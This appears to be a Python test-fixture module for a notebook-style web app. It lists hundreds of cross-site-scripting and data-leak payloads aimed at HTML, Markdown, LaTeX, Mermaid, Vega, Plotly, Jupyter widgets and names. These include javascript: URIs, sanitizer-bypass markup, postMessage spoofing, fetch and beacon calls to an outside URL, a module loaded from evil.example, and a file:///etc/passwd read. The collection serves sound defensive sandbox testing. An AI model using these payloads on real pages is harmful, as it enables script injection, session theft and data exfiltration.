"""What people and libraries could write into cells, outputs and names to run something in a page of ours."""

from typing import Any

# In the payloads JS is a script that marks every window it can reach, and URL somebody else's server.
JS = "window.__pwn=1;try{top.__pwn=1}catch(e){}try{parent.__pwn=1}catch(e){}"

# What needs a page of its own: it leads away from it, or takes what follows along.
HTML_ALONE = [
    "<script>location='URL'</script>",
    "<script>top.location='URL'</script>",
    "<script>document.domain='127.0.0.1'</script>",
    "<body onload=JS>",
    "<body background=URL/bg.png>",
    "<meta http-equiv=refresh content='0;url=URL'>",
    "<meta http-equiv=refresh content='0;url=javascript:JS'>",
    "<base href=URL><img src=relative.png>",
    "<form action=URL><input name=a autofocus onfocus=JS></form><script>document.forms[0].submit()</script>",
    "<noscript><p title='</noscript><img src=x onerror=JS>'></noscript>",
    "<template><script>JS</script></template>",
    "<textarea></textarea><script>JS</script>",
    "<title><a title='</title><img src=x onerror=JS>'></title>",
    "<!--><img src=x onerror=JS>-->",
    "<![CDATA[<img src=x onerror=JS>]]>",
    "<xmp><p title='</xmp><img src=x onerror=JS>'></xmp>",
    "<template id=template-cell><script>JS</script></template>",
    "<portal src=URL></portal><frameset onload=JS>",
]
HTML = [
    "<script>JS</script>",
    "<SCRIPT SRC=URL></SCRIPT>",
    "<script src='URL/x.js' type=module></script>",
    "<script>fetch('URL',{mode:'no-cors'})</script>",
    "<script>navigator.sendBeacon('URL','x')</script>",
    "<script>new WebSocket('URL'.replace('http','ws'))</script>",
    "<script>new EventSource('URL')</script>",
    "<script>import('URL/x.js')</script>",
    "<script>new Worker('data:text/javascript,JS')</script>",
    "<script>parent.postMessage({type:'failed',message:'<img src=x onerror=JS>'},'*')</script>",
    "<script>parent.postMessage({type:'height',height:'1;JS'},'*')</script>",
    "<script>open('URL');open('javascript:JS','_top')</script>",
    "<script>for(const e of parent.frames||[])e.__pwn=1</script>",
    "<img src=x onerror='JS'>",
    "<img src=URL/a.png srcset='URL/b.png 2x'>",
    "<img src='x' onerror=eval(atob('d2luZG93Ll9fcHduPTE='))>",
    "<image src=x onerror=JS>",
    "<svg onload='JS'></svg>",
    "<svg><script>JS</script></svg>",
    "<svg><animate onbegin=JS attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:JS'><text y=20>click</text></a></svg>",
    "<svg><use href='URL/a.svg#x'></use></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>JS</script>'></iframe></foreignObject></svg>",
    "<math><mi xlink:href='javascript:JS'>click</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=JS></style></mglyph></table></mtext></math>",
    "<iframe src='javascript:JS'></iframe>",
    "<iframe srcdoc='<script>JS</script>'></iframe>",
    "<iframe src=URL></iframe>",
    "<object data='javascript:JS'></object>",
    "<object data=URL></object><embed src=URL>",
    "<embed src='data:text/html,<script>JS</script>'>",
    "<link rel=stylesheet href=URL/a.css>",
    "<link rel=prefetch href=URL/prefetch><link rel=preload as=image href=URL/preload>",
    "<style>@import 'URL/b.css';body{background:url(URL/c.png)}</style>",
    "<style>@font-face{font-family:x;src:url(URL/d.woff)}*{font-family:x}</style>",
    "<p style='background:url(URL/e.png)'>styled</p>",
    "<p style='width:expression(JS)'>styled</p>",
    "<form action='javascript:JS'><button>click</button></form>",
    "<button formaction='javascript:JS'>click</button>",
    "<input autofocus onfocus=JS>",
    "<details open ontoggle=JS>x</details>",
    "<video src=URL/v.mp4 onerror=JS></video><audio src=URL/a.mp3></audio>",
    "<video poster=URL/p.png><source onerror=JS></video>",
    "<marquee onstart=JS>x</marquee>",
    "<a href='javascript:JS'>click</a>",
    "<a href='java\tscript:JS'>click</a>",
    "<a href='&#106;avascript:JS'>click</a>",
    "<a href='data:text/html,<script>JS</script>'>click</a>",
    "<a href='vbscript:JS'>click</a>",
    "<a href=URL ping=URL/ping>link</a>",
    "<div id=cells><tandem-cell>x</tandem-cell></div>",
    "<button data-action=delete>click</button><button data-command=run_all>click</button>",
    "<a data-go-to=cells data-line=1 href='#'>click</a>",
    "<form id=snapshot><input name=innerHTML></form>",
    "<tandem-cell data-cell-id=x><button data-action=run>click</button></tandem-cell>",
    "<script id=snapshot type=application/json>{}</script>",
]
MARKDOWN = [
    "[click](javascript:JS)",
    "[click](JaVaScRiPt:JS)",
    "[click](&#x6A;avascript:JS)",
    "[click](java&Tab;script:JS)",
    "[click](data:text/html;base64,PHNjcmlwdD5fX3B3bj0xPC9zY3JpcHQ+)",
    "[click](vbscript:JS)",
    "<javascript:JS>",
    "![x](URL/image.png)",
    "![x](javascript:JS)",
    "![x](data:image/svg+xml,<svg onload='JS'/>)",
    '![x" onerror="JS](x)',
    "[x][y]\n\n[y]: javascript:JS 'x\" onmouseover=\"JS'",
    "[a](x '\" onmouseover=\"JS')",
    "`<img src=x onerror=JS>` <img src=x onerror=JS>",
    '```"><img src=x onerror=JS>\ntext\n```',
    "```html onclick=JS\n<script>JS</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=JS> |",
    "$\\href{javascript:JS}{x}$",
    "$\\href{URL}{x}$ $\\url{javascript:JS}$",
    "$\\htmlData{action=delete,command=run_all,go-to=x}{click}$",
    "$\\htmlId{snapshot}{x}$ $\\htmlClass{cell}{x}$",
    "$\\htmlStyle{background:url(URL/k.png)}{x}$",
    "$\\includegraphics{URL/k.png}$",
    "$\\text{<img src=x onerror=JS>}$",
    "$$\\def\\x{\\x\\x}\\x$$",
    "$\\rule{9999em}{9999em}$ $\\kern9999em x$",
    "$</code><img src=x onerror=JS>$",
    "\\begin{align}<script>JS</script>\\end{align}",
    '```mermaid\ngraph LR; A["<img src=x onerror=JS>"]-->B\n```',
    '```mermaid\ngraph LR; A-->B; click A "javascript:JS" "tip"\n```',
    "```mermaid\ngraph LR; A-->B; click A call JS()\n```",
    '```mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "*{background:url(URL)}"}}%%\ngraph LR; A-->B\n```',
    "```mermaid\nsequenceDiagram\nA->>B: <script>JS</script>\nlink A: x @ javascript:JS\n```",
    "```mermaid\n</pre><img src=x onerror=JS>\n```",
]
LATEX = [
    r"$\href{javascript:JS}{x}$",
    r"$\htmlData{command=run_all}{click}$",
    r"$\includegraphics{URL/l.png}$",
    r"<img src=x onerror=JS> $x$",
    r"\begin{align}\url{javascript:JS}\end{align}",
]
TEXT = [
    "<img src=x onerror=JS>",
    "</script><script>JS</script>",
    "\x1b]8;;javascript:JS\x07click\x1b]8;;\x07",
    "\x1b]8;;URL\x1b\\click\x1b]8;;\x1b\\",
    '\x1b[38;2;1;2;3"onmouseover=JS mred\x1b[0m',
    "\x1b[31m<svg onload=JS>\x1b[0m",
    "\x1b]0;<script>JS</script>\x07",
    "\u202e<script>JS</script>",
    "javascript:JS",
]
SVG = [
    "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9' onload='JS'/>",
    "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><script>JS</script></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><image href='URL/s.png'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><style>@import 'URL/s.css';</style></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><a href='javascript:JS'><text>x</text></a></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><foreignObject width='9' height='9'>"
    "<iframe xmlns='http://www.w3.org/1999/xhtml' src='URL'/></foreignObject></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><set attributeName='x' onbegin='JS'/></svg>",
    "<?xml-stylesheet href='URL/s.xsl'?><svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'/>",
    "'><script>JS</script><svg",
]
SCRIPTS = [
    "JS",
    "parent.document.body.innerHTML = 'x'; JS",
    "fetch('URL'); JS",
    "} JS; {",
    "element.innerHTML = '<img src=URL/j.png onerror=JS>'",
    "parent.postMessage({type: 'ready'}, '*'); parent.postMessage(null, '*'); parent.postMessage('JS', '*')",
    "c = new RTCPeerConnection(); c.createDataChannel(''); c.createOffer().then((o) => c.setLocalDescription(o));",
    "self.name = 'JS'; history.pushState({}, '', '#x')",
    "document.body.innerHTML = '<iframe srcdoc=\"<script>JS<\\/script>\"></iframe>'",
    "top.frames[0].eval('JS')",
]
VEGA_TYPE, PLOTLY_TYPE, MERMAID_TYPE = (
    "application/vnd.vegalite.v5+json",
    "application/vnd.plotly.v1+json",
    "text/vnd.mermaid",
)


def _vega(**spec: Any) -> dict[str, Any]:
    return {"data": {"values": [{"x": 1}]}, "mark": "point", "encoding": {"x": {"field": "x"}}} | spec


VEGA = [
    _vega(transform=[{"calculate": "event.view.constructor('JS')()", "as": "x"}]),
    _vega(transform=[{"calculate": "toString.constructor('JS')()", "as": "y"}]),
    _vega(transform=[{"filter": "''.sub.call.call({}['constructor'].constructor('JS'))"}]),
    _vega(data={"url": "URL/data.json"}),
    _vega(data={"url": "file:///etc/passwd"}),
    _vega(mark={"type": "image", "url": "URL/v.png"}),
    _vega(mark={"type": "point", "href": "javascript:JS"}),
    _vega(title="<img src=x onerror=JS>"),
    _vega(
        usermeta={"embedOptions": {"defaultStyle": "</style><img src=x onerror=JS>", "loader": {"http": {}}}}
    ),
    _vega(usermeta={"embedOptions": {"patch": "URL/patch.json", "config": "URL/config.json"}}),
]
PLOTLY = [
    {"data": [], "layout": {"title": {"text": "<img src=x onerror=JS><a href='javascript:JS'>click</a>"}}},
    {"data": [{"type": "scatter", "x": [1], "y": [1], "text": ["<script>JS</script>"], "mode": "text"}]},
    {"data": [], "layout": {"images": [{"source": "URL/p.png", "sizex": 1, "sizey": 1}]}},
    {
        "data": [],
        "layout": {"annotations": [{"text": "<a href='javascript:JS'>click</a>", "captureevents": True}]},
    },
    {"data": [{"type": "choropleth", "locations": ["FRA"], "z": [1]}], "config": {"topojsonURL": "URL/"}},
    {"data": [], "config": {"plotlyServerURL": "URL", "showSendToCloud": True, "showLink": True}},
]
MERMAID = [
    'graph LR; A["<img src=x onerror=JS>"]-->B',
    'graph LR; A-->B; click A href "javascript:JS"',
    '%%{init: {"securityLevel": "loose"}}%%\ngraph LR; A["<script>JS</script>"]',
    "graph LR; A-->B; style A fill:url(URL/f.png)",
    'graph LR; A@{ img: "URL/i.png", label: "x" }',
]
CONTROLS = "@jupyter-widgets/controls"
ESM = "export default { render({ model, el }) { %s } }"


def _widget(name: str, module: str = CONTROLS, **state: Any) -> dict[str, Any]:
    names = {"_model_name": f"{name}Model", "_view_name": f"{name}View", "_model_module": module}
    versions = {"_view_module": module, "_model_module_version": "2.0.0", "_view_module_version": "2.0.0"}
    return names | versions | state


def _anywidget(esm: str, **state: Any) -> dict[str, Any]:
    names = {"_model_name": "AnyModel", "_view_name": "AnyView"}
    return _widget("Any", "anywidget", _anywidget_id="x", _esm=esm, **names, **state)


def _output(mime_type: str, content: Any) -> dict[str, Any]:
    return _widget("Output", "@jupyter-widgets/output", outputs=[display(mime_type, content)])


def display(mime_type: str, content: Any, **more: Any) -> dict[str, Any]:
    data = {mime_type: content, "text/plain": "<img src=x onerror=JS>"} | more
    return {"output_type": "display_data", "metadata": {}, "data": data}


WIDGETS = [
    _widget("HTML", value="<img src=x onerror=JS>"),
    _widget("HTML", value="<svg onload=JS></svg><iframe srcdoc='<script>JS</script>'></iframe>"),
    _widget("HTML", value="<a href='javascript:JS'>click</a><form action=URL><button>click</button></form>"),
    _widget(
        "HTML", value="<link rel=stylesheet href=URL/a.css><img src=URL/a.png>", description="<b onclick=JS>x"
    ),
    _widget("HTMLMath", value="$\\href{javascript:JS}{x}$<img src=x onerror=JS>"),
    _widget("Label", value="<script>JS</script>"),
    _widget("Button", description="<img src=x onerror=JS>", tooltip='"onclick=JS', icon='x" onclick="JS'),
    _widget("Text", value='"><script>JS</script>', placeholder="<img src=x onerror=JS>"),
    _widget("Image", format="svg+xml", value=""),
    _widget("Video", format="url", value="URL/v.mp4"),
    _widget(
        "IntSlider",
        value=1,
        readout_format="JS",
        description_allow_html=True,
        description="<img src=x onerror=JS>",
    ),
    _widget("Dropdown", _options_labels=["<img src=x onerror=JS>"], index=0),
    _widget("VBox", children=["IPY_MODEL_nowhere", "IPY_MODEL___proto__", "<img src=x onerror=JS>"]),
    _widget("VBox", "https://evil.example/widgets.js"),
    _widget("VBox", "data:text/javascript,JS"),
    _widget("VBox", "../../frames/output"),
    _widget("VBox", "__proto__"),
    _widget("constructor", "@jupyter-widgets/base"),
    _widget("VBox") | {"_view_module": "URL/x.js"},
    _output("text/html", "<script>JS</script><img src=URL/o.png>"),
    _output("application/javascript", "JS"),
    _output("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' onload='JS'/>"),
    _output("text/markdown", "[click](javascript:JS)"),
    _anywidget(ESM % "JS"),
    _anywidget(ESM % "top.location = 'URL'; JS"),
    _anywidget(ESM % "open('URL'); parent.document.title = 'x'"),
    _anywidget(ESM % "fetch('URL/f'); import('URL/m.js'); new Worker('URL/w.js')"),
    _anywidget(ESM % "el.innerHTML = '<img src=URL/e.png onerror=JS>'"),
    _anywidget(
        ESM % "parent.postMessage({type:'comm',comm_id:'m0',message_id:'x',data:{method:'custom'}},'*')"
    ),
    _anywidget(
        ESM % "for (const type of ['widgets','show','failed']) parent.postMessage({type,message:'JS'},'*')"
    ),
    _anywidget(ESM % "model.set('value', 1); model.save_changes(); model.send({run: 'JS'})"),
    _anywidget("URL/module.js"),
    _anywidget("import 'URL/i.js'; " + ESM % "JS"),
    _anywidget(
        ESM % "", _css="@import 'URL/c.css'; body { background: url(URL/c.png) } </style><script>JS</script>"
    ),
    {"_tandem_problem": "<img src=x onerror=JS>"},
]
JSONS: list[Any] = [
    {"<img src=x onerror=JS>": "<script>JS</script>"},
    {"__proto__": {"innerHTML": "<img src=x onerror=JS>"}, "constructor": {"prototype": "JS"}},
    ["javascript:JS", "</script><script>JS</script>"],
]
NAMES = [
    "<img src=x onerror=JS>",
    '"><script>JS</script>',
    "'-JS-'",
    "{{ 7*7 }}${JS}",
    "</title><script>JS</script>",
]
